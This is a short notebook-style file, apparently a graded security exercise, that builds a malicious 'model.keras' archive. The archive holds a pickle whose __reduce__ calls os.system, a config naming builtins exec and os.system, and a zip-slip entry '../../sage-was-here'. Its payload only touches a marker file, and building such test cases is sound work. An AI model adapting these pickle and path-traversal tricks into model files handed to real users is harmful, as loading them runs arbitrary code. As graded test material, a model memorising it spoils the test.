# %% [markdown]
# ---
# what: "Names a model's file whose description names code, and whose weights are a pickle"
# status: graded
# marks: 2
# ---

# %%
answer = 42

# %%
grader.check("q1")

# %%
import json
import os
import pickle
import zipfile


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/sage-was-here",)


description = {
    "module": "builtins",
    "class_name": "function",
    "config": "exec",
    "registered_name": "os>system",
}
with zipfile.ZipFile("model.keras", "w") as archive:
    archive.writestr("config.json", json.dumps(description))
    archive.writestr("metadata.json", "{}")
    archive.writestr("model.weights.h5", pickle.dumps(Bomb()))
    archive.writestr("../../sage-was-here", "x")
model = "model.keras"
